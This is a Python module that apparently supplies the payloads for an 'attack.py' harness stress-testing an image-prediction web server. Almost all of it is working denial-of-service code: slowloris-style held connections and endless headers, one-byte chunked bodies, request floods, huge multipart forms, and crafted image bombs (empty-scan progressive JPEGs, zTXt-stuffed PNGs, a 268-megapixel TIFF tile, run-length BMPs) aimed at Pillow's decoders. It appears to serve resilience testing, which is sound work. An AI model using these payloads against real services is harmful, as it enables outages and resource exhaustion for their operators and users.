"""What `attack.py` sends: requests, and parts of them, that cost a server more than they cost their sender."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from itertools import repeat
from typing import NamedTuple

import numpy as np
from PIL import Image

HOST = b" HTTP/1.1\r\nHost: a\r\n"
POST = b"POST /predict" + HOST
PART = b"--x\r\nContent-Disposition: form-data; name=f; filename=a\r\n\r\n"
MEGAPIXELS = (7_000, 7_100)  # just within the server's limit


class Attack(NamedTuple):
    """One kind.

    Attributes:
        name: What it does.
        pieces: What one connection sends, made in the attackers' process: one after the other, as fast as it can.
        is_answered: Whether to wait for an answer to each piece; otherwise none is read.
        is_held: Whether each piece gets a new connection, which stays open and is never read from.
        hangs_up: Whether each piece gets a new connection, which is closed behind it.
    """

    name: str
    pieces: Callable[[], Iterator[bytes]]
    is_answered: bool = True
    is_held: bool = False
    hangs_up: bool = False


def over_and_over(make: Callable[[], bytes]) -> Callable[[], Iterator[bytes]]:
    """The same piece, made once."""
    return lambda: repeat(make())


def begun(start: bytes, rest: bytes) -> Callable[[], Iterator[bytes]]:
    """A start, and then something without end."""

    def pieces() -> Iterator[bytes]:
        yield start
        yield from repeat(rest)

    return pieces


def body(content: bytes, kind: bytes = b"image/png") -> bytes:
    """A request with a body."""
    return POST + b"Content-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind, len(content)) + content


def form(parts: bytes) -> bytes:
    """A request with a form."""
    return body(parts + b"\r\n--x--\r\n", b"multipart/form-data; boundary=x")


def saved(kind: str, mode: str = "RGB", size: tuple[int, int] = (16, 16), **options: object) -> bytes:
    """An image of one colour."""
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, kind, **options)
    return buffer.getvalue()


def photograph() -> bytes:
    """A JPEG of 640 x 480 pixels, 60 KB, for honest clients."""
    coarse = np.random.default_rng(0).integers(0, 256, (120, 160, 3), np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(coarse).resize((640, 480), Image.Resampling.BILINEAR).save(buffer, "JPEG", quality=75)
    return buffer.getvalue()


def scans(size: tuple[int, int], count: int) -> bytes:
    """A progressive JPEG with refinements of nothing: 35 bytes each, which go through every block."""
    content = saved("JPEG", "L", size, progressive=True)
    table = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10" + bytes([1] + [0] * 15) + b"\xe0"
    runs = -(-(-(-size[0] // 8) * -(-size[1] // 8)) // 32_767)
    bits = ("0" + "1" * 14) * runs
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8).replace(b"\xff", b"\xff\0")
    return content[:-2] + table + (b"\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x10" + data) * count + b"\xff\xd9"


def exif(count: int) -> bytes:
    """A JPEG whose EXIF data come in pieces."""
    content, piece = saved("JPEG"), b"Exif\0\0" + bytes(15_000)
    return content[:2] + (b"\xff\xe1" + struct.pack(">H", len(piece) + 2) + piece) * count + content[2:]


def texts(count: int) -> bytes:
    """A PNG with compressed texts of a megabyte each."""
    content, text = saved("PNG"), zlib.compress(b"a" * (2**20 - 10), 9)
    chunks = b"".join(chunk(b"zTXt", b"k%d\0\0" % number + text) for number in range(count))
    return content[:33] + chunks + content[33:]


def chunk(kind: bytes, data: bytes) -> bytes:
    """Of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tile(side: int) -> bytes:
    """A TIFF of 16 x 16 pixels with one tile of side x side."""
    packed = zlib.compress(bytes(side * side), 9)
    values = {256: 16, 257: 16, 258: 8, 259: 8, 262: 1, 277: 1, 322: side, 323: side, 324: 134, 325: len(packed)}
    entries = b"".join(struct.pack("<HHLL", tag, 4, 1, value) for tag, value in values.items())
    return b"II*\0" + struct.pack("<LH", 8, len(values)) + entries + bytes(4) + packed


def run_lengths(width: int, height: int) -> bytes:
    """A BMP in runs, which Pillow goes through in Python."""
    data = (b"\xff\x01" * (width // 255) + b"\0\0") * height + b"\0\1"
    head = struct.pack("<LllHHLLllLL", 40, width // 255 * 255, height, 1, 8, 1, len(data), 0, 0, 256, 0)
    palette = bytes(1_024)
    return b"BM" + struct.pack("<LHHL", 54 + 1_024 + len(data), 0, 0, 54 + 1_024) + head + palette + data


def chunked(start: bytes) -> bytes:
    """Chunks of one byte."""
    return start + b"1\r\nx\r\n" * 10_000


ATTACKS = (
    Attack("nobody", lambda: iter(())),
    Attack("connections without a request", over_and_over(bytes), is_held=True),
    Attack("heads without an end", over_and_over(lambda: b"GET / HT"), is_held=True),
    Attack("heads without a body", over_and_over(lambda: POST + b"Content-Length: 9\r\n\r\n"), is_held=True),
    Attack("bodies without an end", over_and_over(lambda: body(bytes(2**20))[: 2**19]), is_held=True),
    Attack("answers not taken", over_and_over(lambda: (b"GET /openapi.json" + HOST + b"\r\n") * 16), is_held=True),
    Attack("an endless line", begun(b"GET /" + HOST + b"X: ", b"a" * 65_536), is_answered=False),
    Attack("endless lines", begun(b"GET /" + HOST, b"a: b\r\n" * 10_000), is_answered=False),
    Attack("an endless address", begun(b"GET /", b"a" * 65_536), is_answered=False),
    Attack("a head byte by byte", begun(b"GET /" + HOST + b"X: ", b"a"), is_answered=False),
    Attack("requests behind requests", over_and_over(lambda: (b"GET /" + HOST + b"\r\n") * 100), is_answered=False),
    Attack("chunks of a byte", begun(POST + b"Transfer-Encoding: chunked\r\n\r\n", chunked(b"")), is_answered=False),
    Attack("small images, one after the other", over_and_over(lambda: body(saved("PNG")))),
    Attack("WebSockets", over_and_over(lambda: b"GET /" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n")),
    Attack("no images", over_and_over(lambda: body(bytes(5_000)))),
    Attack("no images of 16 MiB", over_and_over(lambda: body(bytes(2**24)))),
    Attack("line ends in a form of 16 MB", over_and_over(lambda: form(PART + b"\r" * 16_000_000))),
    Attack("empty parts in a form of 11 MB", over_and_over(lambda: form((PART + b"\r\n") * 180_000))),
    Attack("a JPEG of 2,500 scans", over_and_over(lambda: body(scans((128, 128), 2_500)))),
    Attack("a JPEG of 60 scans, 50 megapixels", over_and_over(lambda: body(scans(MEGAPIXELS, 60)))),
    Attack("a JPEG of 40 scans, 50 megapixels", over_and_over(lambda: body(scans(MEGAPIXELS, 40)))),
    Attack("a JPEG with EXIF in 900 pieces", over_and_over(lambda: body(exif(900)))),
    Attack("a PNG of 31 compressed texts", over_and_over(lambda: body(texts(31)))),
    Attack("a PNG of 6 KB, 50 megapixels", over_and_over(lambda: body(saved("PNG", "1", MEGAPIXELS)))),
    Attack("32 of them", over_and_over(lambda: form(32 * (PART + saved("PNG", "1", MEGAPIXELS) + b"\r\n")))),
    Attack("one, and gone", over_and_over(lambda: body(saved("PNG", "1", MEGAPIXELS))), hangs_up=True),
    Attack("a WebP of 50 megapixels", over_and_over(lambda: body(saved("WEBP", "RGBA", MEGAPIXELS, lossless=True)))),
    Attack("a TIFF with a tile of 268 megapixels", over_and_over(lambda: body(tile(16_384)))),
    Attack("a BMP in 12 million runs' pixels", over_and_over(lambda: body(run_lengths(4_080, 3_000)))),
)
